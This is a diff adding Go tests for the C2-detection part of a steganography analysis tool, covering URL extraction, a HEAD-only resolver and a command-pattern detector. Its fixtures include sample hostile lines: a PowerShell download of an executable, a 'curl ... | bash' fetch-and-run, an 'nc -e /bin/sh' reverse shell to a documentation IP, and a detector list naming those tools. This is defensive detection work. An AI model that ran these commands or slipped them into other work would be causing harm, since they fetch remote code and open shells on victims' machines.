@@ -0,0 +1,139 @@
+package c2
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"reflect"
+	"testing"
+
+	"DeSteGo/pkg/models"
+)
+
+// payloadWithURLs is a recovered payload naming several URLs, one of them twice
+const payloadWithURLs = `stage 1: powershell -c "iwr http://203.0.113.7:8080/update.exe -OutFile u.exe"
+fallback https://bit.ly/3xQz9Kp, then https://cdn.invoice-check.top/p/init.ps1.
+docs at https://example.com/readme (see https://example.com/readme)
+beacon to http://[2001:db8::1]/gate.php every 60s`
+
+func TestExpandURLs(t *testing.T) {
+	want := []URLInfo{
+		{URL: "http://203.0.113.7:8080/update.exe", Host: "203.0.113.7", IPLiteral: true, Executable: true},
+		{URL: "https://bit.ly/3xQz9Kp", Host: "bit.ly", TLD: "ly", Shortener: true},
+		{URL: "https://cdn.invoice-check.top/p/init.ps1", Host: "cdn.invoice-check.top", TLD: "top", SuspectTLD: true, Executable: true},
+		{URL: "https://example.com/readme", Host: "example.com", TLD: "com"},
+		{URL: "http://[2001:db8::1]/gate.php", Host: "2001:db8::1", IPLiteral: true},
+	}
+
+	// Without a resolver nothing is requested, so the URLs need not exist
+	var expander URLExpander
+	got := expander.Expand(context.Background(), []byte(payloadWithURLs))
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("expanded\n%+v\nwant\n%+v", got, want)
+	}
+
+	tests := []struct {
+		url        string
+		confidence float64
+		reasons    int
+	}{
+		{"http://203.0.113.7:8080/update.exe", 0.8, 2},
+		{"https://bit.ly/3xQz9Kp", 0.4, 1},
+		{"https://cdn.invoice-check.top/p/init.ps1", 0.8, 2},
+		{"https://example.com/readme", 0, 0},
+		{"http://[2001:db8::1]/gate.php", 0.5, 1},
+	}
+	result := &models.AnalysisResult{}
+	ApplyURLs(got, "lsb-sequential-rgb payload", result)
+	if len(result.Findings) != 4 {
+		t.Errorf("%d findings, want one for each of the 4 suspicious URLs", len(result.Findings))
+	}
+	if listed, _ := result.Details["payload_urls"].([]URLInfo); len(listed) != len(want) {
+		t.Errorf("details list %d URLs, want %d", len(listed), len(want))
+	}
+	for i, tt := range tests {
+		if c := got[i].Confidence(); c != tt.confidence || len(got[i].Reasons()) != tt.reasons {
+			t.Errorf("%s: confidence %.1f for %v, want %.1f with %d reasons", tt.url, c, got[i].Reasons(), tt.confidence, tt.reasons)
+		}
+	}
+}
+
+func TestHTTPResolver(t *testing.T) {
+	var methods []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		methods = append(methods, r.Method)
+		switch r.URL.Path {
+		case "/short":
+			http.Redirect(w, r, "https://elsewhere.example/payload.bin", http.StatusFound)
+		case "/payload":
+			w.Header().Set("Content-Type", "application/x-msdownload")
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+
+	expander := URLExpander{Resolver: NewHTTPResolver(DefaultResolveTimeout)}
+	got := expander.Expand(context.Background(), []byte(server.URL+"/short "+server.URL+"/payload"))
+	if len(got) != 2 {
+		t.Fatalf("expanded %d URLs, want 2", len(got))
+	}
+	if got[0].Status != http.StatusFound || got[0].Location != "https://elsewhere.example/payload.bin" {
+		t.Errorf("redirect resolved as %+v, want it reported and not followed", got[0])
+	}
+	if !got[1].Resolved || !got[1].Executable || got[1].ContentType != "application/x-msdownload" {
+		t.Errorf("executable resolved as %+v, want it flagged by its content type", got[1])
+	}
+	if !reflect.DeepEqual(methods, []string{http.MethodHead, http.MethodHead}) {
+		t.Errorf("server saw %v, want only HEAD requests", methods)
+	}
+}
+
+func TestDetectorOutsideRepo(t *testing.T) {
+	// Nothing next to the working directory holds a command list
+	dir := t.TempDir()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chdir(wd) })
+	if err := os.WriteFile("commands.txt", []byte("# custom list\nbeacon-now\n\nexfil-dns\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	payload := []byte("curl http://203.0.113.7/s | bash; nc -e /bin/sh 203.0.113.7 4444; beacon-now && exfil-dns")
+	tests := []struct {
+		name    string
+		cmdList string // -cmdlist value, empty for the embedded list
+		want    []string
+		wantErr bool
+	}{
+		{"embedded list", "", []string{"/bin/sh", "nc -e", "curl"}, false},
+		{"list in the working directory", "commands.txt", []string{"beacon-now", "exfil-dns"}, false},
+		{"missing list", "../bash_and_powershell_commands_extended.txt", nil, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := NewDetector()
+			if tt.cmdList != "" {
+				d, err = LoadDetector(tt.cmdList)
+			}
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("got error %v, want error %v", err, tt.wantErr)
+			}
+			if tt.wantErr {
+				return
+			}
+			if got := d.Match(payload); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("got matches %q, want %q", got, tt.want)
+			}
+			if !d.IsLikelyC2(payload) {
+				t.Errorf("got no C2 verdict for %q", payload)
+			}
+		})
+	}
+}